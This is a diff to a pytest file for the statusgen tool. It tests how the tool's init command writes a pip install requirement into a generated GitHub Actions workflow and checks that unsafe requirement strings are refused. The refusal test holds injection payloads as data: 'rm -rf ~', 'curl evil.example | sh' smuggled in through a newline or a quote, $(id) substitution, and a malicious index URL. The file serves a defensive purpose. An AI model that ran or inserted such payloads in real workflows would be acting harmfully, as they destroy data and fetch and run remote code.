@@ -58,7 +58,7 @@ def test_publish_yml_is_the_init_template_but_for_the_install_line() -> None:
     template = authoring.scaffold_text("workflow.yml").splitlines()
     assert len(ours) == len(template)
     differing = [(a, b) for a, b in zip(ours, template) if a != b]
-    assert differing == [("        run: pip install -e .", f"        run: pip install statusgen=={__version__}")]
+    assert differing == [("        run: pip install -e .", "        run: pip install 'statusgen>=0.1,<0.2'")]
 
 
 def test_triggers(workflow: dict) -> None:
@@ -229,3 +229,80 @@ def test_actionlint_does_find_mistakes(tmp_path: Path) -> None:
                       "      - uses: actions/checkout@v4\n      - run: echo ${{ github.event.nope }\n")
     result = run_actionlint(broken)
     assert result.returncode == 1 and "broken.yml:" in result.stdout, result.stdout + result.stderr
+
+
+def install_step(site: Path) -> str:
+    workflow = load((site / ".github/workflows/statusgen.yml").read_text(encoding="utf-8"))
+    (step,) = [s for s in workflow["jobs"]["build"]["steps"] if s.get("name") == "Install statusgen"]
+    return step["run"]
+
+
+@pytest.mark.parametrize("version, expected", [
+    ("0.1.0", "statusgen>=0.1,<0.2"), ("0.2.3", "statusgen>=0.2,<0.3"), ("1.4.2", "statusgen>=1.4,<2"),
+    ("0.3.0rc1", "statusgen>=0.3.0rc1,<0.4"), ("0.3.0.dev2", "statusgen>=0.3.0.dev2,<0.4")])
+def test_the_default_install_is_the_releases_compatible_with_this_one(version: str, expected: str) -> None:
+    assert authoring.default_install(version) == expected
+
+
+def test_init_installs_a_compatible_release_of_the_running_version_by_default(tmp_path: Path) -> None:
+    """Not `statusgen==0.1.0`, pinned to a version that may never reach the index: every release
+    compatible with the one that wrote the workflow."""
+    assert CliRunner().invoke(main, ["init", str(tmp_path)]).exit_code == 0
+    major, minor = map(int, __version__.split(".")[:2])
+    assert major == 0  # a 1.x gets `>=1.y,<2`: test_the_default_install_is_the_releases_compatible_...
+    assert shlex.split(install_step(tmp_path)) == ["pip", "install", f"statusgen>=0.{minor},<0.{minor + 1}"]
+
+
+@pytest.mark.parametrize("requirement", [
+    "statusgen==0.2.1",
+    "statusgen>=0.2,<0.3",
+    "statusgen ~= 0.2.1",
+    "StatusGen[extra]!=0.2.0,>=0.2",
+    "statusgen==0.2.*",
+    "statusgen @ git+https://github.com/acme/statusgen@v0.2.1",
+    "git+https://github.com/acme/statusgen@v0.2.1",
+    "git+https://git.example.com:8443/acme/statusgen.git@main#egg=statusgen",
+    "https://example.com/dist/statusgen-0.2.1-py3-none-any.whl",
+    "https://example.com/dist/statusgen-0.2.1-py3-none-any.whl#sha256=0123abcd",
+])
+def test_init_install_writes_the_requirement_into_the_workflow(tmp_path: Path, requirement: str) -> None:
+    result = CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement])
+    assert result.exit_code == 0, result.output
+    # What YAML reads, then what the shell reads: exactly the requirement, as one word.
+    assert shlex.split(install_step(tmp_path)) == ["pip", "install", requirement]
+
+
+@pytest.mark.parametrize("requirement", [
+    "",
+    "0.2.1",                                     # a version, not a requirement
+    "requests>=2",                               # not statusgen
+    "statusgen=0.2.1",                           # not a PEP 440 operator
+    "statusgen>=0.2; python_version>'3.9'",      # markers: a quote and a `;`
+    "statusgen==0.2.1; rm -rf ~",
+    "statusgen==0.2.1\n      - run: curl evil.example | sh",
+    "statusgen==0.2.1 # comment",
+    "statusgen==$(id)",
+    "statusgen==`id`",
+    "statusgen' && curl evil.example | sh '",
+    "git+https://github.com/acme/statusgen@$(id)",
+    "git+ssh://git@github.com/acme/statusgen",   # not https
+    "http://example.com/statusgen-0.2.1-py3-none-any.whl",
+    "https://example.com/statusgen-0.2.1.tar.gz",  # https:// only for a wheel
+    "file:///tmp/statusgen-0.2.1-py3-none-any.whl",
+    "-e .",
+    "--index-url=https://evil.example/simple statusgen",
+])
+def test_init_install_refuses_what_the_workflow_cannot_install(tmp_path: Path, requirement: str) -> None:
+    result = CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement])
+    assert result.exit_code == 1
+    (message,) = result.stderr.splitlines()[:1]
+    assert message.startswith(f"Error: --install {requirement!r} is not something the workflow can install: ")
+    assert "'statusgen>=0.2,<0.3'" in message and "git+https://" in message
+    assert list(tmp_path.iterdir()) == []  # nothing written
+
+
+def test_init_install_goes_through_actionlint(tmp_path: Path) -> None:
+    requirement = "git+https://github.com/acme/statusgen@v0.2.1#egg=statusgen"
+    assert CliRunner().invoke(main, ["init", str(tmp_path), "--install", requirement]).exit_code == 0
+    result = run_actionlint(tmp_path / ".github/workflows/statusgen.yml")
+    assert result.returncode == 0, result.stdout + result.stderr
